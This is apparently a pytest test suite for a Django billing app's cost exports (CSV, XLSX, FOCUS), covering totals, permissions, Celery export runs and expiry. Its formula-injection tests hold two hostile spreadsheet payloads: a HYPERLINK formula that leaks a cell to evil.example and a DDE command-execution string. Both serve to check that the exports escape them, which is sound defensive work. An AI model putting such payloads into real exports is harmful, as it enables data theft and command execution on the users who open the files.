"""Finance exports, opened again (csv, openpyxl) and checked cell by cell against the cost API.

The cluster is tests/billing/test_statements.py's (hours 0-4 from T0, a rate change at hour 2).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.utils import timezone

from billing.exports import formats as exports
from billing.exports import runs as export_runs
from billing.models import CostExport, ExportState
from billing.statements.closing import statement_adjust, statement_close
from billing.statements.rollup import roll_up
from common.errors import DomainError
from config.celery import app as celery_app
from tenants.models import Membership, Project
from tests.billing.builders import T0, at
from tests.billing.test_statements import cluster
from tests.conftest import Org

WINDOW = {"from": "2031-01-31T20:00:00Z", "to": "2031-02-01T00:00:00Z"}  # [T0, at(4))
DIMENSIONS = [
    "department",
    "team",
    "project",
    "user",
    "flavor",
    "job_type",
    "priority_class",
    "cluster",
]


@pytest.fixture(autouse=True)
def _export_dir(settings: Any, tmp_path: Path) -> Path:
    settings.GANTRY_EXPORT_DIR = tmp_path / "exports"
    return settings.GANTRY_EXPORT_DIR


@pytest.fixture
def eager_celery() -> Iterator[None]:
    """Tasks run where they are queued, as the worker would run them."""
    celery_app.conf.task_always_eager = True
    yield
    celery_app.conf.task_always_eager = False


def api_costs(client: Any, **params: Any) -> dict[str, Any]:
    response = client.get("/api/v1/costs/", {**WINDOW, "page_size": 200, **params})
    assert response.status_code == 200, response.json()
    return response.json()


def download(client: Any, fmt: str, **params: Any) -> Any:
    response = client.get("/api/v1/costs/export/", {**WINDOW, "format": fmt, **params})
    assert response.status_code == 200, response.content[:500]
    return response


def body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def key_text(key: Any) -> str:
    return "" if key is None else str(key)


# --- CSV ----------------------------------------------------------------------------------


@pytest.mark.parametrize("by", DIMENSIONS)
def test_csv_rows_are_the_cost_api_rows_cell_by_cell(org: Org, client_for: Any, by: str) -> None:
    cluster(org)
    client = client_for("carol")
    api = api_costs(client, by=by)
    response = download(client, "csv", by=by)
    assert response["Content-Type"].startswith("text/csv")
    assert (
        f'filename="gantry-costs-{by}-20310131T20-20310201T00.csv"'
        in (response["Content-Disposition"])
    )
    header, *rows, total = csv_rows(body(response))
    where = [] if by == "cluster" else ["cluster"]  # by "cluster": its own column
    assert header == [
        "from",
        "to",
        f"{by}_id",
        by,
        *where,
        f"charged_{api['currency']}",
        f"showback_{api['currency']}",
        "gpu_hours_used",
        "gpu_hours_idle_reserved",
    ]
    # A row per group and cluster: this installation's jobs ran on `local` alone, and its
    # idle reserved capacity lies there, so each group has one row, named `local`. Each
    # group's rows add up to the API's row, cell by cell, in the API's order.
    figures = ["charged", "showback", "gpu_hours_used", "gpu_hours_idle_reserved"]
    summed: dict[tuple[str, str], list[Decimal]] = {}
    clusters: dict[tuple[str, str], list[str]] = {}
    for row in rows:
        assert row[:2] == [WINDOW["from"], WINDOW["to"]]
        group = (row[2], row[3])
        cells = [Decimal(cell) for cell in row[4 + len(where) :]]
        summed[group] = [a + b for a, b in zip(summed.get(group, [0] * 4), cells, strict=True)]
        clusters.setdefault(group, []).append(row[4] if where else row[3])
    expected = {
        (key_text(r["key"]), r["name"] or ""): [Decimal(r[f]) for f in figures]
        for r in api["results"]
    }
    assert summed == expected and list(summed) == list(expected)
    assert all(names == sorted(set(names)) for names in clusters.values())
    # Idle reserved capacity lies on the cluster too (issue 38): one cluster, one row each.
    assert {name for names in clusters.values() for name in names} == {"local"}
    assert all(len(names) == 1 for names in clusters.values())
    # The totals row: the cost API's total, and the sum of the rows above it.
    assert total[3:] == [
        "Total",
        *[""] * len(where),
        api["total"]["charged"],
        api["total"]["showback"],
        api["total"]["gpu_hours_used"],
        api["total"]["gpu_hours_idle_reserved"],
    ]
    charged = 4 + len(where)
    assert sum(Decimal(r[charged]) for r in rows) == Decimal(total[charged])


def test_gpu_hours_used_and_idle_reserved_are_separate_columns(org: Org, client_for: Any) -> None:
    cluster(org)
    client = client_for("carol")
    *_, total = csv_rows(body(download(client, "csv", by="team")))
    # Jobs held, hours 0-3 (test_statements' cluster): alice 1 GPU for 3 h + a quarter of one
    # for 1 h (3.25), bob half a GPU for 1 h (0.5, preempted), chris 1 GPU for 1 h (failed):
    # 4.75 GPU-hours used. Idle reserved capacity is its own column, never added to it.
    used, idle = Decimal(total[-2]), Decimal(total[-1])
    assert used == Decimal("4.75")
    idle_lines = api_costs(client, by="team", kind="idle-reserved")["total"]
    assert idle == Decimal(idle_lines["gpu_hours"]) > 0
    assert used + idle == Decimal(api_costs(client, by="team")["total"]["gpu_hours"])
    sheet = openpyxl.load_workbook(io.BytesIO(body(download(client, "xlsx", by="team")))).active
    *_, last = list(sheet.iter_rows(values_only=True))
    assert (Decimal(str(last[-2])), Decimal(str(last[-1]))) == (used, idle)


# --- XLSX ---------------------------------------------------------------------------------


@pytest.mark.parametrize("by", ["team", "user", "flavor"])
def test_xlsx_cells_are_typed_and_the_totals_row_adds_up(
    org: Org, client_for: Any, by: str
) -> None:
    cluster(org)
    client = client_for("carol")
    api = api_costs(client, by=by)
    response = download(client, "xlsx", by=by)
    assert response["Content-Type"] == exports.CONTENT_TYPES["xlsx"]
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    header, *rows, total = list(sheet.iter_rows())
    assert [c.value for c in header] == [
        "From (UTC)",
        "To (UTC)",
        f"{by} id",
        by,
        "cluster",
        "Charged",
        "Showback",
        "GPU-hours used",
        "Idle reserved GPU-hours",
    ]
    # The rows are the CSV's (a row per group and cluster, checked against the API above),
    # typed.
    _, *csv_lines, _ = csv_rows(body(download(client, "csv", by=by)))
    assert len(rows) == len(csv_lines) >= len(api["results"]) > 0
    for row, expected in zip(rows, csv_lines, strict=True):
        start, end, key, name, where, charged, showback, used, idle = row
        assert (start.value, end.value) == (datetime(2031, 1, 31, 20), datetime(2031, 2, 1))
        assert start.is_date and end.is_date
        assert key_text(key.value) == expected[2]
        assert (name.value or "") == expected[3] and (where.value or "") == expected[4]
        for cell in (charged, showback):
            assert cell.data_type == "n" and isinstance(cell.value, int | float)
            assert api["currency"] in cell.number_format
        for cell in (used, idle):
            assert cell.data_type == "n"
        figures = [Decimal(str(cell.value)) for cell in (charged, showback, used, idle)]
        assert figures == [Decimal(cell) for cell in expected[5:]]
    assert total[3].value == "Total"
    assert Decimal(str(total[5].value)) == Decimal(api["total"]["charged"])
    assert Decimal(str(total[5].value)) == sum(Decimal(str(r[5].value)) for r in rows)
    assert Decimal(str(total[6].value)) == Decimal(api["total"]["showback"])
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


# --- formula injection --------------------------------------------------------------------

HOSTILE_PROJECT = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
HOSTILE_USER = "+cmd|' /C calc'!A0"


def hostile_names(org: Org) -> None:
    # Straight into the database: the forms refuse such names, the export must not trust that.
    Project.objects.filter(pk=org.proj_alpha.pk).update(slug=HOSTILE_PROJECT)
    org.users["alice"].username = HOSTILE_USER
    org.users["alice"].save()


@pytest.mark.parametrize(("by", "hostile"), [("project", HOSTILE_PROJECT), ("user", HOSTILE_USER)])
def test_formula_prefixed_names_are_escaped_in_csv_and_typed_text_in_xlsx(
    org: Org, client_for: Any, by: str, hostile: str
) -> None:
    cluster(org)
    hostile_names(org)
    client = client_for("carol")
    names = [r[3] for r in csv_rows(body(download(client, "csv", by=by)))[1:-1]]
    assert "'" + hostile in names and hostile not in names
    # XLSX: the name as typed, in a text cell (never a formula), no apostrophe added.
    sheet = openpyxl.load_workbook(io.BytesIO(body(download(client, "xlsx", by=by)))).active
    cells = [row[3] for row in sheet.iter_rows(min_row=2)]
    [typed] = [c for c in cells if c.value == hostile]
    assert typed.data_type == "s" and typed.quotePrefix
    assert not [c for c in cells if c.value == "'" + hostile]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("name", ["+1+1", "=1+1", "-1", "@A1", "plain"])
def test_an_xlsx_name_reads_back_as_typed_in_a_text_cell(
    org: Org, client_for: Any, name: str
) -> None:
    cluster(org)
    Project.objects.filter(pk=org.proj_alpha.pk).update(slug=name)
    client = client_for("carol")
    sheet = openpyxl.load_workbook(io.BytesIO(body(download(client, "xlsx", by="project")))).active
    [cell] = [row[3] for row in sheet.iter_rows(min_row=2) if row[2].value == org.proj_alpha.pk]
    assert (cell.value, cell.data_type) == (name, "s")
    csv_names = [r[3] for r in csv_rows(body(download(client, "csv", by="project")))]
    assert (name if name == "plain" else "'" + name) in csv_names


def test_focus_text_cells_are_escaped_too(org: Org, client_for: Any) -> None:
    cluster(org)
    hostile_names(org)
    header, *rows = csv_rows(body(download(client_for("carol"), "focus")))
    names = {row[header.index("ResourceName")] for row in rows}
    assert "'" + HOSTILE_PROJECT in names and HOSTILE_PROJECT not in names
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or Decimal(cell) < 0, cell  # only negative numbers
    tags = [json.loads(row[header.index("Tags")]) for row in rows]
    assert {t.get("gantry/user") for t in tags} >= {HOSTILE_USER}  # the JSON keeps the real name


def test_the_audit_exports_and_the_cost_exports_share_one_escaping_helper() -> None:
    import portal.views.audit as portal_audit
    import tenants.api.governance as api_audit
    from common.text import csv_safe

    assert exports.csv_safe is csv_safe is portal_audit.csv_safe is api_audit.csv_safe
    assert [csv_safe(v) for v in ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "ok", None]] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@A1",
        "'\tx",
        "'\rx",
        "ok",
        "",
    ]


# --- FOCUS --------------------------------------------------------------------------------

FOCUS_REQUIRED = [
    "BilledCost",
    "EffectiveCost",
    "ListCost",
    "ContractedCost",
    "ChargePeriodStart",
    "ChargePeriodEnd",
    "BillingPeriodStart",
    "BillingPeriodEnd",
    "BillingCurrency",
    "BillingAccountId",
    "BillingAccountName",
    "ConsumedQuantity",
    "ConsumedUnit",
    "PricingQuantity",
    "PricingUnit",
    "ResourceId",
    "ResourceName",
    "SkuId",
    "ChargeCategory",
    "ChargeClass",
    "ChargeDescription",
    "ChargeFrequency",
    "ServiceName",
    "ServiceCategory",
    "ProviderName",
    "PublisherName",
    "InvoiceIssuerName",
    "SubAccountId",
    "SubAccountName",
    "Tags",
]


def test_focus_billed_cost_adds_up_to_the_closed_statement(org: Org, client_for: Any) -> None:
    cluster(org)
    pat = org.users["pat"]
    statement = statement_close(user=pat, organisation=org.acme, start=T0, end=at(4), now=at(5))
    statement_adjust(
        user=pat, statement=statement, tenant=org.charlie, amount=Decimal("-2.00"), reason="node"
    )
    statement_total = roll_up(statement.lines.values_list("tenant_id", "amount", "charged"))
    client = client_for("carol")
    response = download(client, "focus")
    assert response["Content-Disposition"].endswith('.focus.csv"')
    header, *rows = csv_rows(body(response))
    assert not set(FOCUS_REQUIRED) - set(header)
    column = {name: header.index(name) for name in header}
    focus = [{name: row[i] for name, i in column.items()} for row in rows]
    billed = sum(Decimal(r["BilledCost"]) for r in focus)
    assert billed == statement_total[org.acme.pk].charged
    assert billed == Decimal(api_costs(client)["total"]["charged"])
    for row in focus:
        assert row["EffectiveCost"] == row["BilledCost"]
        # No multiplier nor borrowing in this cluster: the list price is the price billed.
        assert row["ListCost"] == row["BilledCost"]
        assert (row["ChargePeriodStart"], row["ChargePeriodEnd"]) == (WINDOW["from"], WINDOW["to"])
        assert (row["BillingPeriodStart"], row["BillingPeriodEnd"]) == (
            "2031-01-01T00:00:00Z",
            "2031-02-01T00:00:00Z",
        )
        assert row["BillingCurrency"] == api_costs(client)["currency"]
        assert row["BillingAccountName"] == "acme"
        tags = json.loads(row["Tags"])
        assert tags["gantry/kind"] == row["x_Kind"]
        assert tags["gantry/tenant"] == row["SubAccountName"]
    [adjustment] = [r for r in focus if r["x_Kind"] == "adjustment"]
    assert (adjustment["ChargeCategory"], adjustment["ChargeClass"]) == ("Adjustment", "Correction")
    assert (adjustment["BilledCost"], adjustment["ConsumedQuantity"]) == ("-2.00", "")
    # alice's GPU line: 1 GPU-hour at 2.00 in hours 0 and 1, at 3.00 in hour 2, plus 0.25
    # GPU-hour on n2 at 2.00 (test_statements): 2.25 GPU-hours at 2.00, 1 at 3.00.
    alice = [
        r
        for r in focus
        if r["x_Kind"] == "used" and r["SkuId"] == "H100-80GB/gpu" and '"alice"' in r["Tags"]
    ]
    assert sorted((r["ConsumedQuantity"], r["BilledCost"]) for r in alice) == [
        ("1.000000", "3.00"),
        ("2.250000", "4.50"),
    ]
    assert {(r["ConsumedUnit"], r["PricingUnit"], r["ChargeCategory"]) for r in alice} == {
        ("GPU-Hours", "GPU-Hours", "Usage")
    }
    tags = json.loads(alice[0]["Tags"])
    assert set(tags) == {
        f"gantry/{key}"
        for key in ["tenant", "project", "user", "job_type", "priority_class", "kind"]
    }
    assert (tags["gantry/tenant"], tags["gantry/project"]) == ("team-alpha", "proj-alpha")


def test_showback_is_billed_nothing_in_focus(org: Org, client_for: Any) -> None:
    from billing.models import BillingPolicy

    BillingPolicy.objects.create(organisation=org.acme, idle_policy="showback")
    cluster(org)
    header, *rows = csv_rows(body(download(client_for("carol"), "focus", kind="idle-reserved")))
    assert rows
    for row in rows:
        line = dict(zip(header, row, strict=True))
        assert line["BilledCost"] == "0.00" and Decimal(line["x_ShowbackCost"]) > 0


# --- who sees what ------------------------------------------------------------------------


@pytest.mark.parametrize("persona", ["alice", "tina", "dana", "chris"])
@pytest.mark.parametrize("fmt", ["csv", "focus"])
def test_an_export_holds_what_its_user_may_see(
    org: Org, client_for: Any, persona: str, fmt: str
) -> None:
    cluster(org)
    client = client_for(persona)
    api = api_costs(client, by="project")
    text = body(download(client, fmt, by="project")).decode("utf-8-sig")
    rows = csv_rows(text.encode())
    if fmt == "csv":
        assert rows[-1][5] == api["total"]["charged"]  # from, to, id, name, cluster
    else:
        billed = sum(Decimal(r[rows[0].index("BilledCost")]) for r in rows[1:])
        assert billed == Decimal(api["total"]["charged"])
    unseen = {"alice": "bravo", "tina": "bravo", "dana": "charlie", "chris": "alpha"}[persona]
    assert unseen not in text


# --- bad input ----------------------------------------------------------------------------

BAD_QUERIES = [
    ({"from": "2031-02-01", "to": "2031-01-01"}, "to"),
    ({"from": "2031-01-01", "to": "2032-03-01"}, "to"),
    ({"from": "2031-01-01T10:30:00Z"}, "from"),
    ({"format": "pdf"}, "format"),
    ({"by": "planet"}, "by"),
]
BAD_IDS = ["reversed", "longer-than-the-limit", "not-on-the-hour", "unknown-format", "unknown-by"]


@pytest.mark.parametrize(("params", "field"), BAD_QUERIES, ids=BAD_IDS)
def test_a_bad_export_query_is_a_400_naming_the_field(
    org: Org, client_for: Any, params: dict[str, str], field: str
) -> None:
    client = client_for("carol")
    response = client.get("/api/v1/costs/export/", {"format": "xlsx", **params})
    assert response.status_code == 400, response.content
    assert response["Content-Type"] == "application/json"
    assert field in response.json()["errors"], response.json()
    response = client.post("/api/v1/cost-exports/", {"format": "csv", **params}, format="json")
    assert response.status_code == 400, response.content
    assert field in response.json()["errors"], response.json()
    assert not CostExport.objects.exists()


def test_an_export_naming_a_foreign_tenant_or_an_unknown_field_is_refused(
    org: Org, client_for: Any
) -> None:
    client = client_for("alice")
    response = client.post(
        "/api/v1/cost-exports/", {**WINDOW, "tenant": org.bravo.pk}, format="json"
    )
    assert response.status_code == 404
    response = client.post("/api/v1/cost-exports/", {**WINDOW, "owner": 1}, format="json")
    assert response.status_code == 400 and "owner" in response.json()["errors"]
    assert not CostExport.objects.exists()


# --- the Celery path ----------------------------------------------------------------------


def start(client: Any, **fields: Any) -> dict[str, Any]:
    response = client.post("/api/v1/cost-exports/", {**WINDOW, **fields}, format="json")
    assert response.status_code == 201, response.json()
    return response.json()


@pytest.mark.usefixtures("eager_celery")
@pytest.mark.parametrize("fmt", ["csv", "xlsx", "focus"])
def test_a_large_export_runs_as_a_task_and_downloads_until_it_expires(
    org: Org, client_for: Any, django_capture_on_commit_callbacks: Any, fmt: str
) -> None:
    cluster(org)
    client = client_for("carol")
    with django_capture_on_commit_callbacks(execute=True):
        created = start(client, format=fmt, by="user")
    assert created["state"] == "queued" and created["download"] is None
    export = client.get(f"/api/v1/cost-exports/{created['id']}/").json()
    assert export["state"] == "done", export
    assert export["progress"]["done"] == export["progress"]["total"] == export["rows"] > 0
    response = client.get(export["download"])
    assert response.status_code == 200
    data = body(response)
    assert len(data) == export["size"]
    assert data == body(download(client, fmt, by="user")) or fmt == "xlsx"  # zip timestamps
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        assert sheet.max_row == export["rows"] + 2  # header and totals
    listed = client.get("/api/v1/cost-exports/").json()
    assert [e["id"] for e in listed["results"]] == [created["id"]]
    # Expired: a 404 at once, then the sweep deletes the file and the row.
    stored = CostExport.objects.get(pk=created["id"])
    path = Path(export_runs.export_dir()) / stored.file
    assert path.is_file()
    CostExport.objects.filter(pk=stored.pk).update(expires_at=timezone.now())
    assert client.get(export["download"]).status_code == 404
    assert export_runs.cost_exports_expire(now=timezone.now()) == 1
    assert not path.exists()
    assert client.get(f"/api/v1/cost-exports/{created['id']}/").status_code == 404
    assert client.get(export["download"]).status_code == 404


def test_retention_counts_from_the_end_of_the_run(org: Org, settings: Any) -> None:
    settings.GANTRY_EXPORT_RETENTION_H = 2
    cluster(org)
    query = exports.query_from_json({**WINDOW, "by": "team"})
    export = export_runs.cost_export_start(user=org.users["carol"], fmt="csv", query=query, now=T0)
    finished = T0 + timedelta(hours=5)
    assert export_runs.cost_export_run(export.pk, clock=lambda: finished)
    assert export_runs.cost_exports_expire(now=finished + timedelta(hours=1, minutes=59)) == 0
    assert export_runs.cost_exports_expire(now=finished + timedelta(hours=2)) == 1
    assert not any(Path(export_runs.export_dir()).iterdir())


def test_anothers_export_is_a_404(org: Org, client_for: Any) -> None:
    cluster(org)
    query = exports.query_from_json({**WINDOW, "by": "team"})
    export = export_runs.cost_export_start(
        user=org.users["carol"], fmt="csv", query=query, now=timezone.now()
    )
    export_runs.cost_export_run(export.pk, clock=timezone.now)
    for persona in ["pat", "alice", "dana"]:  # a platform admin too: exports are personal
        client = client_for(persona)
        for url in [
            f"/api/v1/cost-exports/{export.pk}/",
            f"/api/v1/cost-exports/{export.pk}/download/",
        ]:
            assert client.get(url).status_code == 404, (persona, url)
        assert client.get("/api/v1/cost-exports/").json()["results"] == []
    response = client_for("carol").get(f"/api/v1/cost-exports/{export.pk}/download/")
    assert response.status_code == 200 and body(response).startswith("from,".encode("utf-8-sig"))


def test_what_an_export_holds_is_decided_when_it_runs(org: Org) -> None:
    cluster(org)
    tina = org.users["tina"]
    query = exports.query_from_json({**WINDOW, "by": "team"})
    export = export_runs.cost_export_start(user=tina, fmt="csv", query=query, now=timezone.now())
    Membership.objects.filter(user=tina).delete()  # tina leaves team-alpha before it runs
    assert export_runs.cost_export_run(export.pk, clock=timezone.now)
    export.refresh_from_db()
    path = Path(export_runs.export_dir()) / export.file
    _header, total = csv_rows(path.read_bytes())
    assert export.rows == 0 and total[3:6] == ["Total", "", "0.00"]


def test_a_second_run_of_the_same_export_does_nothing(org: Org) -> None:
    cluster(org)
    query = exports.query_from_json({**WINDOW, "by": "team"})
    export = export_runs.cost_export_start(
        user=org.users["carol"], fmt="csv", query=query, now=timezone.now()
    )
    assert export_runs.cost_export_run(export.pk, clock=timezone.now) is True
    export.refresh_from_db()
    stamp = (export.finished_at, export.file, export.size)
    assert export_runs.cost_export_run(export.pk, clock=timezone.now) is False
    export.refresh_from_db()
    assert (export.finished_at, export.file, export.size) == stamp


def test_a_failed_export_says_why_and_leaves_no_file(
    org: Org, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_rate(*args: Any, **kwargs: Any) -> Any:
        raise DomainError("no rate card of flavor 'T4' covers 2031-01-31T20:00:00Z")

    monkeypatch.setattr(exports, "cost_lines_visible", no_rate)
    query = exports.query_from_json({**WINDOW, "by": "team"})
    export = export_runs.cost_export_start(
        user=org.users["carol"], fmt="xlsx", query=query, now=timezone.now()
    )
    export_runs.cost_export_run(export.pk, clock=timezone.now)
    export.refresh_from_db()
    assert export.state == ExportState.FAILED and "no rate card" in export.error
    assert export.file == "" and not any(Path(export_runs.export_dir()).iterdir())


def test_a_broker_that_is_down_fails_the_export_not_the_request(
    org: Org, client_for: Any, django_capture_on_commit_callbacks: Any, monkeypatch: Any
) -> None:
    from billing import tasks

    def down(*args: Any) -> None:
        raise ConnectionError("broker down")

    monkeypatch.setattr(tasks.cost_export_run, "delay", down)
    with django_capture_on_commit_callbacks(execute=True):
        created = start(client_for("carol"))
    export = CostExport.objects.get(pk=created["id"])
    assert export.state == ExportState.FAILED and "queued" in export.error


# --- streaming ------------------------------------------------------------------------------


def test_progress_is_reported_as_rows_are_written(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 2)
    heard: list[tuple[int, int]] = []
    rows = [[str(i)] for i in range(5)]
    written = exports.write_csv(["n"], rows, io.BytesIO(), 5, lambda d, t: heard.append((d, t)))
    assert written == 5
    assert heard == [(0, 5), (2, 5), (4, 5), (5, 5)]


def test_the_csv_writer_streams_rows_as_they_come() -> None:
    """Bytes reach the output while rows are still being made: nothing waits for the end."""
    out = io.BytesIO()
    seen_while_writing: list[int] = []

    def rows() -> Iterator[list[str]]:
        for i in range(20_000):
            if i % 5000 == 0:
                seen_while_writing.append(out.tell())
            yield [f"row-{i}", "x" * 20]

    exports.write_csv(["name", "pad"], rows(), out, 20_000)
    assert seen_while_writing[-1] > 0  # the first 15000 rows were out before the last was made
    assert out.tell() > seen_while_writing[-1]


def test_the_xlsx_writer_uses_openpyxl_write_only_mode(
    org: Org, monkeypatch: pytest.MonkeyPatch
) -> None:
    """write_only keeps the sheet in a temporary file as rows are appended; a normal
    workbook holds every cell in memory until it is saved."""
    made: list[Any] = []
    real = exports.Workbook

    def spy(*args: Any, **kwargs: Any) -> Any:
        book = real(*args, **kwargs)
        made.append(book)
        return book

    monkeypatch.setattr(exports, "Workbook", spy)
    query = exports.query_from_json({**WINDOW, "by": "team"})
    exports.export_write(user=org.users["carol"], fmt="xlsx", query=query, out=io.BytesIO())
    assert [book.write_only for book in made] == [True]


def test_a_file_too_large_to_answer_at_once_points_to_the_celery_path(
    org: Org, client_for: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    from billing.api import exports as export_views

    cluster(org)
    monkeypatch.setattr(export_views, "SYNC_MAX_BYTES", 300)
    response = client_for("carol").get("/api/v1/costs/export/", {**WINDOW, "format": "focus"})
    assert response.status_code == 400
    assert "/api/v1/cost-exports/" in response.json()["errors"]["non_field_errors"][0]


def test_the_expiry_sweep_is_scheduled(settings: Any) -> None:
    from billing.tasks import cost_exports_expire

    entry = settings.CELERY_BEAT_SCHEDULE["billing-exports-expire"]
    assert entry == {"task": cost_exports_expire.name, "schedule": 900.0}


@pytest.mark.backend_independent("manage.py in a subprocess whose environment the test sets")
@pytest.mark.parametrize("hours", ["0", "-1", "nan"])
def test_a_retention_that_is_not_a_positive_number_of_hours_refuses_to_start(hours: str) -> None:
    from tests.test_settings import manage

    result = manage("check", env={"GANTRY_EXPORT_RETENTION_H": hours})
    assert result.returncode != 0
    assert "GANTRY_EXPORT_RETENTION_H" in result.stderr
    assert manage("check", env={"GANTRY_EXPORT_RETENTION_H": "0.5"}).returncode == 0


def test_the_sweep_deletes_what_a_killed_worker_left(org: Org) -> None:
    query = exports.query_from_json({**WINDOW, "by": "team"})
    export = export_runs.cost_export_start(user=org.users["carol"], fmt="csv", query=query, now=T0)
    # A worker claimed it and died while writing: the export stays running, a partial file.
    CostExport.objects.filter(pk=export.pk).update(state=ExportState.RUNNING)
    folder = Path(export_runs.export_dir())
    folder.mkdir(parents=True)
    partial = folder / f".{export.pk}-{export.filename}.part"
    partial.write_bytes(b"from,to")
    assert export_runs.cost_export_run(export.pk, clock=timezone.now) is False  # redelivered
    assert export_runs.cost_exports_expire(now=export.expires_at) == 1
    assert not partial.exists() and not CostExport.objects.exists()
